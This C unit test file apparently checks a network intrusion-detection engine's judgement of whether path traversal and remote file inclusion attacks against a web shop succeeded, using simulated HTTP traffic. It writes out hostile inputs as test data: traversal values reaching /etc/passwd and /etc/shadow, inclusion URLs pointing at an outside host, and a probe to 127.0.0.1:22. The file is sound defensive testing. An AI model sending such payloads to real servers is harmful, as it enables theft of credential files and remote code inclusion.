/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Judging files, pages and URLs that a value names: what a place answers to many, and what it shows though nobody knows it. */
#include "tests/unit/scene.h"

#define OK "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n"
#define NOT_FOUND "HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\n\r\n"
#define ASKS(value) "GET /view?page=" value " HTTP/1.1\r\nHost: shop\r\n\r\n"
#define TOP "<html><head><title>Harbour supplies</title></head><body><nav>Home, products, help</nav><h2>Page</h2>\n"
#define END "\n<footer>Harbour supplies</footer></body></html>\n"
#define PASSWD "quartz:x:0:0:quartz:/quartz:/bin/vex\njumbling:x:1:1:sphinx:/usr/sbin:/usr/sbin/none\n"

static struct scene *attack(const char *request)
{
	struct scene *s = scene_new(request);

	s->report.language = LANGUAGE_PATH;
	scene_text(s, "quartz:x:0:0:quartz:/quartz:/bin/vex", "quartz:x:0:0:quartz:/quartz:/bin/vex\n", 120)->must_show = false;
	return s;
}

/* This case's own answer, and that of others, as the lane tells of it. */
static void answered(struct scene *s, const char *target, unsigned status, const char *body, bool suspect, bool own)
{
	struct history h = { .kind = HISTORY_RESPONSE, .time_ns = 50ull * SECOND, .packet = 2, .flow_id = 2000 + s->packets++,
	                     .status = (uint16_t)status, .whole = true, .suspect = suspect, .body_len = strlen(body) };

	if (own) {
		h.flow_id = s->record.flow_id;
		h.tx_id = s->record.tx_id;
	}
	h.tuple = s->record.tuple;
	h.name = bytes_text(target);
	h.sample = bytes_text(status >= 400 ? body : "");
	for (const char *c = body; *c != '\0'; c++)
		h.body_digest = h.body_digest * 31 + (uint8_t)*c;
	assert_int_equal(memory_add(s->memory, &h), 0);
}

static void one_page_for_many_names_is_another_than_the_one_named(void **state)
{
	struct scene *s = attack(ASKS("../../etc/passwd"));

	answered(s, "/view?page=about", 200, TOP "About" END, false, false);
	answered(s, "/view?page=help", 200, TOP "This page helps you to find what you need" END, false, false);
	answered(s, "/view?page=../../etc/hosts", 200, TOP "This page helps you to find what you need" END, true, false);
	answered(s, "/view?page=../../etc/passwd", 200, TOP "This page helps you to find what you need" END, true, true);
	scene_response(s, bytes_text(OK TOP "This page helps you to find what you need" END));
	expect_reason(s, REASON_SHOWN_TRACE_MISSING);
	scene_free(s);
}

/* The same page for whatever is named: its clock alone makes two answers differ. */
static void a_clock_is_not_what_was_named(void **state)
{
	struct scene *s = attack(ASKS("../../etc/passwd"));

	answered(s, "/view?page=about", 200, TOP "Noted at 9:58" END, false, false);
	answered(s, "/view?page=help", 200, TOP "Noted at 10:02" END, false, false);
	answered(s, "/view?page=../../etc/hosts", 200, TOP "Noted at 10:02" END, true, false);
	answered(s, "/view?page=../../etc/passwd", 200, TOP "Noted at 10:02" END, true, true);
	scene_response(s, bytes_text(OK TOP "Noted at 10:02" END));
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_free(s);
}

static void a_place_that_answers_alike_whatever_is_named_may_read_it_unseen(void **state)
{
	struct scene *s = attack(ASKS("../../etc/passwd"));

	answered(s, "/view?page=blue", 200, TOP "Saved" END, false, false);
	answered(s, "/view?page=../../etc/hosts", 200, TOP "Saved" END, true, false);
	answered(s, "/view?page=../../etc/shadow", 200, TOP "Saved" END, true, false);
	answered(s, "/view?page=../../etc/passwd", 200, TOP "Saved" END, true, true);
	scene_response(s, bytes_text(OK TOP "Saved" END));
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_free(s);
}

/* A browser got the page packed, the tool that attacks did not ask for that: the same page, and not another one. */
static void a_page_that_is_packed_for_one_client_is_no_other_page(void **state)
{
	struct scene *s = attack(ASKS("../../etc/passwd"));
	struct history packed = { .kind = HISTORY_RESPONSE, .time_ns = 50ull * SECOND, .packet = 2, .flow_id = 1999, .status = 200,
	                          .whole = true, .body_len = 40, .body_digest = 4711, .tuple = s->record.tuple,
	                          .name = bytes_text("/view?page=blue"), .content_encoding = bytes_text("gzip") };

	assert_int_equal(memory_add(s->memory, &packed), 0);
	answered(s, "/view?page=green", 200, TOP "Saved" END, false, false);
	answered(s, "/view?page=../../etc/hosts", 200, TOP "Saved" END, true, false);
	answered(s, "/view?page=../../etc/shadow", 200, TOP "Saved" END, true, false);
	answered(s, "/view?page=../../etc/passwd", 200, TOP "Saved" END, true, true);
	scene_response(s, bytes_text(OK TOP "Saved" END));
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_free(s);
}

/* Another server with the same application shows the file in the same page; here a text stands there, whatever is named. */
static void what_an_application_shows_elsewhere_it_would_show_here(void **state)
{
	static const char *const fallbacks[] = {
		"<h3>Help</h3><p>Goods are sent by sea on the first and third Monday of every month, if the weather allows it. "
		"Lists of accounts are read as passwd(5) has them, one a line.</p>",
		"<p>Thank you, we have got your question.</p>", /* which is all that one would show that reads the file unseen */
	};

	for (unsigned i = 0; i < COUNT_OF(fallbacks); i++) {
		struct scene *s = attack(ASKS("../../etc/passwd"));
		char page[1024], ok[1100];

		snprintf(page, sizeof(page), TOP "%s" END, fallbacks[i]);
		snprintf(ok, sizeof(ok), OK "%s", page);
		s->record.tuple.dst = scene_address("192.0.2.81");
		scene_next(s, ASKS("../../etc/passwd"), OK TOP PASSWD END);
		expect_reason(s, REASON_TRACE_IN_RESPONSE);
		s->record.tuple.dst = scene_address(VICTIM);
		s->record.flow_id++;
		answered(s, "/view?page=../../etc/hosts", 200, page, true, false);
		answered(s, "/view?page=../../etc/group", 200, page, true, false);
		answered(s, "/view?page=../../etc/passwd", 200, page, true, true);
		scene_next(s, ASKS("../../etc/passwd"), ok);
		s->record.flow_id--;
		expect_reason(s, i == 0 ? REASON_SHOWN_TRACE_MISSING : REASON_MAY_RUN_UNSEEN);
		scene_free(s);
	}
}

static void many_ways_to_write_one_name_are_one_file(void **state)
{
	struct scene *s = attack(ASKS("../../srv/secret"));

	answered(s, "/view?page=about", 200, TOP "About" END, false, false);
	answered(s, "/view?page=../../../srv/secret", 200, TOP "one two three" END, true, false);
	answered(s, "/view?page=..//..//srv//secret", 200, TOP "one two three" END, true, false);
	answered(s, "/view?page=../../srv/secret", 200, TOP "one two three" END, true, true);
	scene_response(s, bytes_text(OK TOP "one two three" END));
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_free(s);
}

static void another_parameter_beside_it_makes_another_place(void **state)
{
	struct scene *s = attack("GET /view?page=../../etc/passwd&quiet=1 HTTP/1.1\r\nHost: shop\r\n\r\n");

	answered(s, "/view?page=about", 200, TOP "About" END, false, false);
	answered(s, "/view?page=../../etc/hosts&quiet=1", 200, TOP "Thank you" END, true, false);
	answered(s, "/view?page=../../etc/group&quiet=1", 200, TOP "Thank you" END, true, false);
	answered(s, "/view?page=../../etc/passwd&quiet=1", 200, TOP "Thank you" END, true, true);
	scene_response(s, bytes_text(OK TOP "Thank you" END));
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_free(s);
}

static void what_an_application_says_is_not_there_is_refused(void **state)
{
	struct scene *s = attack(ASKS("../../etc/passwd"));

	answered(s, "/view?page=../../etc/passwd", 404, "no ../../etc/passwd here", true, true);
	scene_response(s, bytes_text(NOT_FOUND "no ../../etc/passwd here"));
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	answered(s, "/view?page=../../etc/hosts", 404, "no ../../etc/hosts here", true, false);
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	/* the place shows what it has: this is what it says of what it has not, or of many names */
	answered(s, "/view?page=about", 200, TOP "About this server and its house" END, false, false);
	expect_reason(s, REASON_REFUSED);
	scene_free(s);
	s = attack(ASKS("../../etc/passwd"));
	answered(s, "/view?page=../../etc/hosts", 404, "no ../../etc/hosts here", true, false);
	answered(s, "/view?page=../../etc/group", 404, "no ../../etc/group here", true, false);
	answered(s, "/view?page=../../etc/shells", 404, "no ../../etc/shells here", true, false);
	answered(s, "/view?page=../../etc/passwd", 404, "no ../../etc/passwd here", true, true);
	scene_response(s, bytes_text(NOT_FOUND "no ../../etc/passwd here"));
	expect_reason(s, REASON_REFUSED);
	scene_free(s);
}

/* Two files that are known were shown there. */
static struct scene *shows_files(void)
{
	struct scene *s = attack(ASKS("../../etc/passwd"));

	answered(s, "/view?page=../../etc/passwd", 200, TOP PASSWD END, true, true);
	scene_response(s, bytes_text(OK TOP PASSWD END));
	expect_reason(s, REASON_TRACE_IN_RESPONSE);
	scene_next(s, ASKS("../../etc/passwd-"), OK TOP "x" PASSWD "more" END);
	answered(s, "/view?page=../../etc/passwd-", 200, TOP "x" PASSWD "more" END, true, true);
	expect_reason(s, REASON_TRACE_IN_RESPONSE);
	return s;
}

#define UNKNOWN_FILE "[server]\nlisten = 8080\nworkers = 12\nlog = /srv/log/access\n"

static void a_file_that_nobody_knows_is_shown_where_others_were(void **state)
{
	struct scene *s = shows_files();

	scene_next(s, ASKS("../../srv/app.conf"), OK TOP UNKNOWN_FILE END);
	answered(s, "/view?page=../../srv/app.conf", 200, TOP UNKNOWN_FILE END, true, true);
	expect_reason(s, REASON_TRACE_IN_RESPONSE);
	/* a message: short, marked up, or with the file's name in it */
	scene_next(s, ASKS("../../srv/none.conf"), OK TOP "<p>This page could not be found on this server, sorry</p>\n<p>Go home</p>" END);
	answered(s, "/view?page=../../srv/none.conf", 200, TOP "<p>This page could not be found" END, true, true);
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_next(s, ASKS("../../srv/other.conf"), OK TOP "cannot open the file that was asked for\n../../srv/other.conf is not there" END);
	answered(s, "/view?page=../../srv/other.conf", 200, TOP "cannot open" END, true, true);
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_free(s);
}

/* A host's name is all of the victim's own; that nothing was found is said otherwise, and known from others. */
static void a_name_stands_where_results_stood_and_nothing_else_is_said_so(void **state)
{
	struct scene *s = shows_files();

	scene_next(s, ASKS("../../etc/host"), OK TOP "web-17\n" END);
	expect_reason(s, REASON_MAY_RUN_UNSEEN); /* what the place says of what is not there is not known yet */
	scene_next(s, ASKS("../../srv/app.php"), OK TOP "<?php define('X', 1);" END); /* no message begins so */
	expect_reason(s, REASON_TRACE_IN_RESPONSE);
	scene_next(s, ASKS("../../srv/a"), OK TOP "<p>Nothing here</p>" END);
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_next(s, ASKS("../../srv/b"), OK TOP "<p>Nothing here</p>" END);
	expect_reason(s, REASON_SHOWN_TRACE_MISSING);
	scene_next(s, ASKS("../../etc/hostname"), OK TOP "web-18\n" END);
	expect_reason(s, REASON_TRACE_IN_RESPONSE);
	/* a message, a number alone */
	scene_next(s, ASKS("../../srv/c"), OK TOP "not allowed: 403" END);
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_next(s, ASKS("../../srv/d"), OK TOP "Forbidden" END);
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_next(s, ASKS("../../srv/e"), OK TOP "40377" END);
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_free(s);
}

static void what_others_are_shown_too_is_no_file_of_this_name(void **state)
{
	struct scene *s = shows_files();

	answered(s, "/view?page=../../srv/nothing", 200, TOP UNKNOWN_FILE END, true, false);
	scene_next(s, ASKS("../../srv/app.conf"), OK TOP UNKNOWN_FILE END);
	answered(s, "/view?page=../../srv/app.conf", 200, TOP UNKNOWN_FILE END, true, true);
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_free(s);
}

#define FAR "203.0.113.66"
#define URL(value) "GET /fetch?url=" value " HTTP/1.1\r\nHost: shop\r\n\r\n"

static void requested(struct scene *s, const char *from, const char *host, const char *target)
{
	struct history h = { .kind = HISTORY_REQUEST, .time_ns = (uint64_t)REQUEST_TIME * SECOND + SECOND / 2, .packet = 11,
	                     .flow_id = 3000 + s->packets++, .name = bytes_text(target), .host = bytes_text(host) };

	h.tuple = (struct tuple){ .src = scene_address(from), .dst = scene_address(FAR), .sport = 5557, .dport = 80, .protocol = 6 };
	assert_int_equal(memory_add(s->memory, &h), 0);
}

static struct scene *fetches(const char *request, const char *url)
{
	struct scene *s = scene_new(request);

	s->report.language = LANGUAGE_URL;
	scene_network(s, TRACE_FETCH, url, NULL, 0)->bits = 60;
	scene_response(s, bytes_text(OK TOP "Done" END));
	return s;
}

static void an_ordinary_url_is_told_only_beside_attacks(void **state)
{
	struct scene *s = fetches(URL("http%3A%2F%2Fcdn.example.org%2Fx"), "http://cdn.example.org/x");

	requested(s, VICTIM, "cdn.example.org", "/x");
	expect_reason(s, REASON_WEAK_TRACE);
	/* the same client asked the same place for the server itself */
	answered(s, "/fetch?url=http%3A%2F%2F127.0.0.1%3A22", 200, TOP "Done" END, true, false);
	expect_reason(s, REASON_TRACE_IN_LATER_FLOW);
	scene_free(s);
}

/* What a page includes it has to get first, and what leaves a neighbour of the site is seen to pass here. */
static void a_script_that_nobody_asked_for_was_not_included(void **state)
{
	struct address neighbour = scene_address("192.0.2.81"), stranger = scene_address("192.0.3.80");
	struct scene *s = fetches(URL("http%3A%2F%2F203.0.113.66%2Fs.txt%3F"), "http://203.0.113.66/s.txt?");

	place_book_note_egress(s->places, &stranger);
	expect_reason(s, REASON_NOTHING_TO_SHOW);
	place_book_note_egress(s->places, &neighbour);
	expect_reason(s, REASON_OWN_TRACE_MISSING);
	/* it was asked for, by which way ever: then it may have been included */
	scene_history(s, HISTORY_FLOW, 100.5, VICTIM, FAR, 80, "");
	requested(s, VICTIM, FAR, "/s.txt?.php");
	expect_reason(s, REASON_TRACE_IN_LATER_FLOW);
	scene_free(s);
	/* a URL that is fetched and not included runs in vain where the site is not let out, and what is near stays unseen */
	s = fetches(URL("http%3A%2F%2F10.0.0.66%2Fs.txt%3F"), "http://10.0.0.66/s.txt?");
	place_book_note_egress(s->places, &neighbour);
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_free(s);
	s = fetches(URL("http%3A%2F%2F203.0.113.66%2Fs"), "http://203.0.113.66/s");
	place_book_note_egress(s->places, &neighbour);
	expect_reason(s, REASON_MAY_RUN_UNSEEN);
	scene_free(s);
}

static void a_script_that_was_not_got_was_not_included(void **state)
{
	struct scene *s = fetches(URL("http%3A%2F%2F203.0.113.66%2Fs.txt%3F"), "http://203.0.113.66/s.txt?");
	struct history h = { .kind = HISTORY_RESPONSE, .time_ns = (uint64_t)REQUEST_TIME * SECOND + SECOND / 2 + 1, .packet = 12,
	                     .status = 404, .whole = true };

	requested(s, VICTIM, FAR, "/s.txt?.php"); /* the application's own ending */
	h.flow_id = 3000 + s->packets - 1;
	h.tuple = (struct tuple){ .src = scene_address(VICTIM), .dst = scene_address(FAR), .sport = 5557, .dport = 80, .protocol = 6 };
	expect_reason(s, REASON_TRACE_IN_LATER_FLOW);
	assert_int_equal(memory_add(s->memory, &h), 0);
	expect_reason(s, REASON_WEAK_TRACE);
	scene_free(s);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(one_page_for_many_names_is_another_than_the_one_named),
		cmocka_unit_test(a_clock_is_not_what_was_named),
		cmocka_unit_test(a_place_that_answers_alike_whatever_is_named_may_read_it_unseen),
		cmocka_unit_test(a_page_that_is_packed_for_one_client_is_no_other_page),
		cmocka_unit_test(what_an_application_shows_elsewhere_it_would_show_here),
		cmocka_unit_test(many_ways_to_write_one_name_are_one_file),
		cmocka_unit_test(another_parameter_beside_it_makes_another_place),
		cmocka_unit_test(what_an_application_says_is_not_there_is_refused),
		cmocka_unit_test(a_file_that_nobody_knows_is_shown_where_others_were),
		cmocka_unit_test(a_name_stands_where_results_stood_and_nothing_else_is_said_so),
		cmocka_unit_test(what_others_are_shown_too_is_no_file_of_this_name),
		cmocka_unit_test(an_ordinary_url_is_told_only_beside_attacks),
		cmocka_unit_test(a_script_that_nobody_asked_for_was_not_included),
		cmocka_unit_test(a_script_that_was_not_got_was_not_included),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
